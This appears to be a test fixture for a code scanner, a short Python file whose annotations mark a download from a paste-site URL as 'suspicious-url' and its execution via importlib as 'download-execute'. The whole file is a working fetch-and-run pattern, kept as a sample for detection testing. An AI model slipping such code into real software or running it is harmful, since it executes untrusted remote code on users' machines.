# ruff: noqa
# fmt: off
import importlib.util
import os
import tempfile
import urllib.request

path = os.path.join(tempfile.gettempdir(), "mod.py")
urllib.request.urlretrieve("https://paste.ee/r/abc", path)  # expect: suspicious-url
spec = importlib.util.spec_from_file_location("mod", path)
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)  # expect: download-execute
